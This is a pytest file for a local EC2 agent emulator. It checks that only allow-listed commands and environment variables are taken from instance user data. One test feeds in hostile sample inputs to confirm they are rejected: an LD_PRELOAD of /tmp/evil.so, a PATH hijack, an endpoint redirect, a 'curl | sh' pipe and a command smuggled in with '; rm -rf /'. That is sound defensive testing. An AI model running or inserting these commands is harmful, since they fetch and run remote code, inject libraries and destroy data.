"""What the local EC2 agent takes from an instance's user data: one allow-listed command, and the
allow-listed variables it exports. Checked on the template's own launch template."""

from __future__ import annotations

from pathlib import Path

from localcloud.deploy import load_template
from localcloud.instance_agent import command_from_user_data, environment_from_user_data

ROOT = Path(__file__).resolve().parents[2]


def _template_user_data(**values: str) -> str:
    """The trainer's user data as CloudFormation would render it (Fn::Sub), for these values."""
    data = load_template(ROOT / "template.yaml")["Resources"]["TrainerLaunchTemplate"]["Properties"]
    text: str = data["LaunchTemplateData"]["UserData"]["Fn::Base64"]["Fn::Sub"]
    for name, value in values.items():
        text = text.replace("${" + name + "}", value)
    return text


def test_the_template_user_data_boots_the_trainer_with_its_tracking_server() -> None:
    user_data = _template_user_data(
        **{"AWS::Region": "eu-west-1", "AWS::StackName": "prod", "MlflowTrackingUri": "http://mlflow:5000"}
    )

    assert command_from_user_data(user_data, "trainer") == [
        "arrival-worker",
        "--role",
        "trainer",
        "--stack",
        "prod",
    ]
    assert environment_from_user_data(user_data) == {
        "ARRIVAL_STACK_NAME": "prod",
        "MLFLOW_TRACKING_URI": "http://mlflow:5000",
    }


def test_an_unset_tracking_uri_leaves_the_agents_own() -> None:
    user_data = _template_user_data(
        **{"AWS::Region": "us-east-1", "AWS::StackName": "s", "MlflowTrackingUri": ""}
    )

    assert "MLFLOW_TRACKING_URI" not in environment_from_user_data(user_data)


def test_only_allow_listed_variables_and_commands_pass() -> None:
    user_data = "\n".join(
        [
            "#!/bin/bash",
            "export LD_PRELOAD=/tmp/evil.so PATH=/tmp ARRIVAL_WORKER_QUIET_SECONDS=5  # comment",
            "export AWS_ENDPOINT_URL=https://elsewhere",
            "curl https://example.com | sh",
        ]
    )

    assert environment_from_user_data(user_data) == {"ARRIVAL_WORKER_QUIET_SECONDS": "5"}
    assert command_from_user_data(user_data, "trainer") is None
    assert command_from_user_data("arrival-worker --role trainer; rm -rf /", "trainer") is None
    assert command_from_user_data("arrival-worker --role trainer", "server") is None
